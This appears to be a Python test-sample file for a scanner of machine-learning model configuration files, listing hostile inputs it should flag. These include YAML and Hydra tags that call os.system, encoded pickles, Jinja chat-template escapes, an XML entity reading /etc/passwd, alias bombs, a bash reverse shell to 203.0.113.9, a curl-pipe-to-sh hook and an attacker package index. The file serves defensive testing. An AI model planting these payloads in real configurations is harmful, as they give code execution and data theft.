"""Configuration that runs, refers to or gives away something (B062, B063, B081, B085)."""

import base64
import json
import zlib
from collections.abc import Iterator

from tests.samples.sample import HARM, UNPROVEN, Sample

DATA_ONLY = f"{UNPROVEN}the format holds data only; what reads it does the harm."
SOURCE = HARM.source
TAG = '!!python/object/apply:os.system ["echo modelaudit-sample"]'
PICKLE = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x16echo modelaudit-sample\x85R."
CODED = [
    base64.b64encode(PICKLE).decode(),
    PICKLE.hex(),
    base64.b85encode(PICKLE).decode(),
    base64.b64encode(zlib.compress(PICKLE)).decode(),
]
DEEP = "[" * 100_000 + "]" * 100_000
LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)
)

# id, bypass, name of the file, text or bytes, least severity, why
TABLE: tuple[tuple[str, str, str, str | bytes, str, str], ...] = (
    ("apply", "B063", "config.yaml", TAG, "critical", "The tag calls os.system."),
    ("apply-no-name", "B063", "model", f"x: 1\ny: {TAG}\n", "critical", "Under a name that says nothing."),
    ("apply-in-flow", "B063", "config.json", f"{{a: 1, b: {TAG}}}", "critical", "YAML in the clothes of JSON."),
    (
        "apply-verbose",
        "B063",
        "c.yml",
        "!<tag:yaml.org,2002:python/object/apply:os.system> [x]",
        "critical",
        "In full.",
    ),
    ("apply-escaped", "B063", "c.yml", "!!python/object/apply:os%2Esystem [x]", "critical", "With an escape in it."),
    (
        "apply-handle",
        "B063",
        "c.yml",
        "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [x]\n",
        "critical",
        "By a handle of its own.",
    ),
    ("apply-utf16", "B063", "c.yml", f"a: {TAG}\n".encode("utf-16"), "critical", "In UTF-16."),
    ("apply-bom", "B063", "c.yml", f"\ufeffa: {TAG}\n", "critical", "After a byte order mark."),
    ("apply-second-document", "B063", "c.yml", f"a: 1\n---\nb: {TAG}\n", "critical", "In the second document."),
    ("apply-as-key", "B063", "c.yml", f"? {TAG}\n: 1\n", "critical", "As a key."),
    (
        "apply-after-comments",
        "B063",
        "c.yml",
        "# comment\n" * 5000 + f"a: {TAG}\n",
        "critical",
        "After 50 KB of comments.",
    ),
    ("new", "B063", "c.yml", "!!python/object/new:subprocess.Popen [[echo, modelaudit-sample]]", "critical", "By new."),
    ("name", "B063", "c.yml", "hook: !!python/name:os.system\n", "critical", "Names os.system."),
    ("module", "B063", "c.yml", "hook: !!python/module:antigravity_of_mine\n", "warning", "Imports a module."),
    (
        "map-trick",
        "B063",
        "c.yml",
        '!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - ["1"]\n',
        "critical",
        "map(eval).",
    ),
    (
        "hyperpyyaml",
        "B063",
        "hyperparams.yaml",
        "x: !apply:os.system [echo modelaudit-sample]\n",
        "critical",
        "HyperPyYAML.",
    ),
    ("javax", "B063", "c.yml", "!!javax.script.ScriptEngineManager []", "warning", "SnakeYAML."),
    ("hydra", "B081", "model_config.yaml", "model:\n  _target_: os.system\n  command: x\n", "critical", "Hydra."),
    (
        "hydra-json",
        "B081",
        "config.json",
        json.dumps({"a": [{"_target_": "subprocess.run", "args": ["x"]}]}),
        "critical",
        "Same.",
    ),
    (
        "hydra-escaped",
        "B081",
        "c.json",
        '{"\\u005ftarget_": "os\\u002esystem", "command": "x"}',
        "critical",
        "Escaped letters.",
    ),
    (
        "hydra-walk",
        "B081",
        "c.yaml",
        "_target_: pathlib.os.system\ncommand: x\n",
        "critical",
        "Through another module.",
    ),
    (
        "hydra-method",
        "B081",
        "c.yaml",
        "f:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "critical",
        "By name.",
    ),
    (
        "hydra-partial",
        "B081",
        "c.yaml",
        "f:\n  _target_: functools.partial\n  _args_: [os.system]\n",
        "critical",
        "Partial.",
    ),
    ("hydra-toml", "B081", "c.toml", '[model]\n_target_ = "os.system"\ncommand = "x"\n', "critical", "In TOML."),
    (
        "lightning",
        "B081",
        "c.yaml",
        "model:\n  class_path: os.system\n  init_args: {command: x}\n",
        "critical",
        "Lightning.",
    ),
    ("ldm-target", "B081", "c.yaml", "model:\n  target: os.system\n  params: {command: x}\n", "critical", "Diffusion."),
    (
        "auto-map-elsewhere",
        "B081",
        "config.json",
        json.dumps({"auto_map": {"AutoModel": "someone/else--modeling.M"}}),
        "warning",
        "Code of another repository.",
    ),
    (
        "auto-map-trusted",
        "B081",
        "config.json",
        json.dumps({"trust_remote_code": True, "auto_map": {"AutoModel": "modeling_x.M"}}),
        "warning",
        "Trusts itself.",
    ),
    (
        "custom-pipeline",
        "B081",
        "model_index.json",
        json.dumps({"_class_name": "P", "custom_pipeline": "someone/else"}),
        "warning",
        "Pipeline of another repository.",
    ),
    (
        "pipeline-part",
        "B081",
        "model_index.json",
        json.dumps({"_class_name": "P", "_diffusers_version": "0.30", "x": ["os", "system"]}),
        "critical",
        "A part is os.system.",
    ),
    (
        "loader-module",
        "B081",
        "MLmodel",
        "flavors:\n  python_function:\n    loader_module: payload\n    code: code\nmlflow_version: 2.9.0\n",
        "warning",
        "MLflow.",
    ),
    (
        "shard-escape",
        "B081",
        "pytorch_model.bin.index.json",
        json.dumps({"metadata": {}, "weight_map": {"w": "../../other/pytorch_model.bin"}}),
        "warning",
        "A shard elsewhere.",
    ),
    (
        "pip-index",
        "B081",
        "conda.yaml",
        "name: env\ndependencies:\n- pip:\n  - --extra-index-url http://packages.attacker.net/simple\n  - x\n",
        "warning",
        "Index.",
    ),
    (
        "peft",
        "B081",
        "adapter_config.json",
        json.dumps({"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}),
        "critical",
        "PEFT imports it.",
    ),
    (
        "sentence",
        "B081",
        "modules.json",
        json.dumps([{"idx": 0, "name": "0", "path": "x", "type": "os.system"}]),
        "critical",
        "Sentence Transformers.",
    ),
    (
        "langchain-secret",
        "B081",
        "chain.json",
        json.dumps({"metadata": {"x": {"lc": 1, "type": "secret", "id": ["AWS_SECRET_ACCESS_KEY"]}}}),
        "warning",
        "LangGrinch.",
    ),
    (
        "langchain-repl",
        "B081",
        "chain.json",
        json.dumps(
            {"lc": 1, "type": "constructor", "id": ["langchain_experimental", "utilities", "PythonREPL"], "kwargs": {}}
        ),
        "critical",
        "Makes an interpreter.",
    ),
    (
        "chat-template",
        "B081",
        "tokenizer_config.json",
        json.dumps({"chat_template": "{{ cycler.__init__.__globals__.os.popen('x').read() }}"}),
        "critical",
        "Jinja.",
    ),
    (
        "chat-template-list",
        "B081",
        "tokenizer_config.json",
        json.dumps(
            {
                "chat_template": [
                    {"name": "default", "template": "x"},
                    {"name": "tool_use", "template": "{{ x.__class__.__mro__ }}"},
                ]
            }
        ),
        "critical",
        "In a list.",
    ),
    ("python-value", "B081", "config.json", json.dumps({"on_load": SOURCE}), "warning", "Python as a value."),
    (
        "reverse-shell",
        "B081",
        "config.json",
        json.dumps({"startup": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}),
        "critical",
        "A reverse shell.",
    ),
    (
        "download-and-run",
        "B081",
        "settings.ini",
        "[hooks]\npost_load = curl http://203.0.113.9/x.sh | sh\n",
        "warning",
        "Shell.",
    ),
    (
        "template-value",
        "B081",
        "config.json",
        json.dumps({"prefix": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}),
        "critical",
        "A template as a value.",
    ),
    (
        "duplicate-key",
        "B062",
        "config.json",
        '{"auto_map": {"AutoModel": "a.B"}, "auto_map": {"AutoModel": "c.D"}}',
        "warning",
        "One key twice.",
    ),
    (
        "duplicate-escaped",
        "B062",
        "config.json",
        '{"model_type": "bert", "model\\u005ftype": "gpt"}',
        "warning",
        "Twice, escaped.",
    ),
    (
        "utf16",
        "B062",
        "config.json",
        json.dumps({"_target_": "os.system"}).encode("utf-16-le"),
        "critical",
        "UTF-16, no mark.",
    ),
    ("utf32", "B062", "config.json", json.dumps({"_target_": "os.system"}).encode("utf-32"), "critical", "UTF-32."),
    (
        "lenient",
        "B062",
        "config.json",
        '// x\n{"_target_": "os.system", /* y */ "a": [1,],}',
        "critical",
        "Comments and commas.",
    ),
    ("latin1", "B062", "config.json", b'{"n": "caf\xe9", "_target_": "os.system"}', "critical", "Not UTF-8."),
    (
        "padded",
        "B062",
        "config.json",
        json.dumps({"pad": "x" * 5_000_000, "_target_": "os.system"}),
        "critical",
        "5 MB before.",
    ),
    (
        "padded-escaped",
        "B062",
        "config.json",
        '{"pad": "' + "x" * 5_000_000 + '", "\\u005ftarget_": "os.system"}',
        "critical",
        "5 MB before, escaped.",
    ),
    ("deep-json", "B085", "config.json", '{"a": ' + DEEP + "}", "warning", "100,000 lists deep."),
    ("deep-yaml", "B085", "config.yaml", f"a: {DEEP}\n", "warning", "100,000 lists deep."),
    ("laughs", "B085", "config.yaml", LAUGHS, "warning", "Aliases of aliases."),
    ("cycle", "B085", "config.yaml", "a: &a [1, *a]\n", "warning", "An anchor in itself."),
    (
        "entities",
        "B085",
        "config.xml",
        '<!DOCTYPE a [<!ENTITY b "xx"><!ENTITY c "&b;&b;&b;"><!ENTITY d SYSTEM "file:///etc/passwd">]><a>&d;&c;</a>',
        "warning",
        "XML with entities.",
    ),
    ("pickle-base64", "B062", "config.json", json.dumps({"state": CODED[0]}), "critical", "A pickle in base64."),
    ("pickle-hex", "B062", "config.yaml", f"a:\n  state: '{CODED[1]}'\n", "critical", "A pickle in hexadecimal."),
    ("pickle-base85", "B062", "config.json", json.dumps({"state": CODED[2]}), "critical", "A pickle in base85."),
    ("pickle-zlib", "B062", "config.json", json.dumps({"state": CODED[3]}), "critical", "The same behind zlib."),
    ("pickle-alone", "B062", "notes.txt", CODED[0], "critical", "A text that is nothing but a pickle."),
    ("target-parts", "B063", "c.yaml", "a: os\nm:\n  _target_: ${a}.system\n", "critical", "Put together."),
    ("target-whole", "B063", "c.yaml", "x: {y: os.system}\nm:\n  _target_: ${x.y}\n", "critical", "Referred to."),
    ("jsonpickle", "B063", "c.json", '{"py/reduce": [{"py/type": "os.system"}, {}]}', "critical", "By jsonpickle."),
    (
        "logging-file",
        "B063",
        "logging.conf",
        "[loggers]\nkeys=root\n[handler_h]\nclass=__import__('os').system\nargs=('echo modelaudit-sample',)\n",
        "critical",
        "fileConfig evaluates it.",
    ),
    ("requirements", "B085", "requirements.txt", "--extra-index-url http://a.example/s\nx==1\n", "warning", "pip."),
)


def hostile() -> Iterator[Sample]:
    """All of this family."""
    for name, bypass, filename, content, expect, why in TABLE:
        data = content if isinstance(content, bytes) else content.encode()
        yield Sample(
            f"{bypass}-manifest-{name}", bypass, filename, lambda _, data=data: data, why + DATA_ONLY, expect, ""
        )
